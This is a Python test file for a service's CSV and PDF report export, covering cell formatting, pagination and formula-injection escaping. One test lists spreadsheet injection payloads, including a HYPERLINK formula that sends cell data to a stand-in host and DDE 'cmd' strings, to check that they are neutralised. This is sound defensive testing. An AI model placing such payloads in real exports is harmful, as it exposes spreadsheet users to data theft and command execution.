"""Rows as files: what a spreadsheet makes of a CSV, what a reader sees of a PDF."""

import csv
import io
import json
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from pypdf import PdfReader

from services.jobs.tasks.paper import PdfSheet
from services.jobs.tasks.sheets import CsvSheet, cell_of, harmless

ANY_JSON = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False, allow_infinity=False)
    | st.text(st.characters()),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(), inner, max_size=3),
    max_leaves=6,
)  # fmt: skip


def read(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""), strict=True))


def texts_of(pdf: bytes) -> list[str]:
    return [page.extract_text() for page in PdfReader(io.BytesIO(pdf)).pages]


@given(st.lists(st.lists(ANY_JSON, min_size=3, max_size=3), max_size=4))
def test_a_csv_reads_back_as_what_was_written_but_for_the_apostrophe(rows: list[list[Any]]) -> None:
    sheet = CsvSheet(["a", "b", "c"])
    written = [[cell_of(value) for value in row] for row in rows]
    for row in written:
        sheet.add(row)
    assert sheet.size() == len(sheet.content())
    titles, *found = read(sheet.content())
    assert titles == ["a", "b", "c"]
    assert [[str(cell) if not isinstance(cell, str) else harmless(cell) for cell in row]
            for row in written] == found  # fmt: skip


@given(st.text(st.characters(exclude_categories=["Cs"])))
def test_no_text_is_read_as_a_formula(text: str) -> None:
    safe = harmless(text)
    assert safe in (text, f"'{text}")
    assert safe.strip()[:1] not in {*"=+-@＝＋－＠"}  # noqa: RUF001 - the wide forms are meant
    assert safe[:1] not in {*"\t\r\n"}


@pytest.mark.parametrize(
    "attack",
    [
        '=HYPERLINK("http://evil.test?"&A1)', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)", "\t=1+1", "\r=1+1", "\n=1+1", "  =1+1", "\u00a0=1+1", "＝1+1",  # noqa: RUF001
    ],
)  # fmt: skip
def test_known_attacks_come_to_nothing(attack: str) -> None:
    sheet = CsvSheet([attack])
    sheet.add([attack])
    assert read(sheet.content()) == [[f"'{attack}"]] * 2


def test_a_semicolon_or_a_quote_stays_inside_its_cell() -> None:
    sheet = CsvSheet(["name", "n"])
    sheet.add(['x";=1+1', -5])
    assert sheet.content().decode("utf-8-sig") == '"name","n"\r\n"x"";=1+1",-5\r\n'


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        (None, ""),
        (True, "yes"),
        (False, "no"),
        (-7, -7),
        (1.5, 1.5),
        ("Zoë", "Zoë"),
        ("a\x00b\ud800", "a\ufffdb?"),
        ({"amount": 123450, "currency": "EUR"}, "EUR 1234.50"),
        ({"amount": 500, "currency": "JPY"}, "JPY 500"),
        ({"amount": 5, "currency": "JPY", "n": 1}, '{"amount": 5, "currency": "JPY", "n": 1}'),
        ({"amount": True, "currency": "EUR"}, '{"amount": true, "currency": "EUR"}'),
        ({"amount": 1, "currency": "euro"}, '{"amount": 1, "currency": "euro"}'),
        (["a", None, 2], "a, , 2"),
    ],
)  # fmt: skip
def test_values_are_written_as_people_read_them(value: Any, cell: Any) -> None:
    assert cell_of(value) == cell
    assert type(cell_of(value)) is type(cell)


def test_a_pdf_goes_on_over_its_pages_with_title_time_and_number() -> None:
    sheet = PdfSheet(["Number", "Buyer"], "Invoices of März", "2026-03-01 12:00 UTC")
    for number in range(1, 101):
        sheet.add([number, f"Buyer {number}"])
    content = sheet.content()
    pages = texts_of(content)
    assert len(pages) > 1
    for place, page in enumerate(pages, 1):
        for wanted in ("Invoices of März", "2026-03-01 12:00 UTC", f"Page {place}", "Number"):
            assert wanted in page
    assert [sum(f"Buyer {n}\n" in page + "\n" for page in pages) for n in (1, 50, 100)] == [1, 1, 1]
    assert content == sheet.content(), "the same rows are the same bytes"


def test_a_pdf_of_no_rows_has_its_titles() -> None:
    [page] = texts_of(PdfSheet(["Number"], "Nothing", "now").content())
    assert "Number" in page


def test_long_text_is_wrapped_and_cut_in_its_column() -> None:
    sheet = PdfSheet([f"Column {n}" for n in range(20)], "Wide", "now")
    identifier = "018f0000-0000-7000-8000-000000000001"
    sheet.add([identifier, "word " * 500, "x" * 10_000, *[""] * 17])
    [page] = texts_of(sheet.content())
    assert identifier in page.replace("\n", "").replace(" ", "")
    assert page.count("…") == 2
    assert page.count("word") < 60


def test_letters_that_the_font_lacks_stop_no_report() -> None:
    sheet = PdfSheet(["名前"], "報告 \u202e <b>", "now")
    sheet.add(["עברית 🎉 & <i>not markup</i>"])
    [page] = texts_of(sheet.content())
    assert "<i>not markup</i>" in page


def test_what_is_no_money_is_shown_as_it_came() -> None:
    value = {"deep": [{"a": "ü"}]}
    assert json.loads(str(cell_of(value))) == value
